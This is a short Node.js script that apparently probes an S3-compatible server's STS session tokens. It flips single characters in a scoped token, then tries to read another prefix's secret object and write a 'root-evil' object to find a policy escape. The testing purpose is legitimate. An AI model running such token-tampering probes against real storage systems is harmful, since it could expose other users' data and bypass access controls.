import { S3Client, CreateBucketCommand, PutObjectCommand, GetObjectCommand } from '@aws-sdk/client-s3';
import { STSClient, AssumeRoleCommand } from '@aws-sdk/client-sts';
const e = process.env;
const base = { endpoint: e.S3_ENDPOINT, region: 'us-east-1', forcePathStyle: true, requestChecksumCalculation: 'WHEN_REQUIRED', responseChecksumValidation: 'WHEN_REQUIRED', maxAttempts: 1 };
const admin = new S3Client({ ...base, credentials: { accessKeyId: e.S3_ACCESS_KEY, secretAccessKey: e.S3_SECRET_KEY } });
const B = 'probe-' + Date.now();
await admin.send(new CreateBucketCommand({ Bucket: B }));
await admin.send(new PutObjectCommand({ Bucket: B, Key: 'artists/a/x', Body: 'x' }));
const sts = new STSClient({ endpoint: e.S3_ENDPOINT, region: 'us-east-1', credentials: { accessKeyId: e.S3_ACCESS_KEY, secretAccessKey: e.S3_SECRET_KEY } });
const c = (await sts.send(new AssumeRoleCommand({ RoleArn: e.S3_ROLE_ARN, RoleSessionName: 'probe', Policy: JSON.stringify({ Version: '2012-10-17', Statement: [{ Effect: 'Allow', Action: ['s3:GetObject'], Resource: [`arn:aws:s3:::${B}/artists/a/*`] }] }), DurationSeconds: 900 }))).Credentials;
const tok = c.SessionToken;
console.log('len', tok.length, tok.slice(0, 40), tok.slice(-20));
const res = {};
for (let at = 0; at < tok.length; at += 7) {
  const flipped = tok.slice(0, at) + (tok[at] === 'A' ? 'B' : 'A') + tok.slice(at + 1);
  const t = new S3Client({ ...base, credentials: { accessKeyId: c.AccessKeyId, secretAccessKey: c.SecretAccessKey, sessionToken: flipped } });
  let r; try { await t.send(new GetObjectCommand({ Bucket: B, Key: 'artists/a/x' })); r = 'ALLOWED'; } catch (err) { r = err.name; }
  res[r] = (res[r] ?? []); res[r].push(at);
}
for (const [k, v] of Object.entries(res)) console.log(k, v.length, k === 'ALLOWED' ? v.join(',') : '');
await admin.send(new PutObjectCommand({ Bucket: B, Key: 'artists/b/secret', Body: 'bob' }));
for (const at of [154, 200, 250, 315]) {
  const flipped = tok.slice(0, at) + (tok[at] === 'A' ? 'B' : 'A') + tok.slice(at + 1);
  const t = new S3Client({ ...base, credentials: { accessKeyId: c.AccessKeyId, secretAccessKey: c.SecretAccessKey, sessionToken: flipped } });
  let r; try { r = await (await t.send(new GetObjectCommand({ Bucket: B, Key: 'artists/b/secret' }))).Body.transformToString(); } catch (err) { r = err.name; }
  let w; try { await t.send(new PutObjectCommand({ Bucket: B, Key: 'root-evil', Body: 'x' })); w = 'PUT ROOT ALLOWED'; } catch (err) { w = err.name; }
  console.log('escape at', at, '->', r, w);
}
